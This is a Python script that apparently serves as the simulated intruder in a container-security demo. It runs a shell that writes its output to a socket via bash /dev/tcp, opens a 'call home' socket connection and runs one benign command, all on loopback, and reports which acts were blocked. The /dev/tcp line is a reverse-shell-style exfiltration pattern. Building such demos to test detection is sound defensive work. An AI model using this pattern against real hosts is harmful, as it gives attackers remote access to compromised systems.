# SPDX-License-Identifier: Apache-2.0
"""The demo's intruder: a compromised Python service, in a cgroup that looks like a container's.

Reports on standard output, one line for each act, what became of it. Acts on loopback only.
"""

import signal
import socket
import subprocess
import sys


def outcome(status):
    if status < 0:
        return "killed by " + signal.Signals(-status).name
    return "exit status %d" % status


def main():
    port = int(sys.argv[1])

    # 1. The classic: the service spawns a shell whose output goes to the attacker.
    command = "bash -c 'echo shell here, I am $(id -un) >/dev/tcp/127.0.0.1/%d'; exit $?" % port
    status = subprocess.run(["/bin/sh", "-c", command], stderr=subprocess.DEVNULL, timeout=20).returncode
    print("shell:", outcome(status), flush=True)

    # 2. No shell: the service itself calls home.
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"python here\n")
        print("connection: established", flush=True)
    except OSError as e:
        print("connection: refused (%s)" % e.strerror, flush=True)

    # 3. What the service does all day.
    status = subprocess.run(["/bin/cat", "/etc/os-release"], stdout=subprocess.DEVNULL, timeout=20).returncode
    print("benign command:", outcome(status), flush=True)


main()
